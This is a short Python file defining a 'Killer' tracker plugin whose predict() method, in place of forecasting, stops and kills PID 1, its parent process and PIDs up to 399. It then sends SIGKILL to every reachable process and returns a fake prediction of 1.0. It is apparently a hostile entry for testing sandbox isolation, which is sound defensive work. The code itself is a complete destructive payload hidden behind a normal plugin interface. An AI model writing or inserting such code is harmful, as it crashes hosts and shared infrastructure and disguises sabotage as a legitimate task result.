"""Signals everybody that it can name: its group, its parents, and all there are."""

import os
import signal

from tracker import TrackerBase


class Killer(TrackerBase):
    def predict(self, subject, resolve_horizon_seconds, step_seconds):
        for number in (signal.SIGSTOP, signal.SIGKILL):
            for pid in (1, os.getppid(), *range(2, 400)):
                if pid != os.getpid():
                    try:
                        os.kill(pid, number)
                    except OSError:
                        continue
        os.kill(-1, signal.SIGKILL)
        return {"value": 1.0}
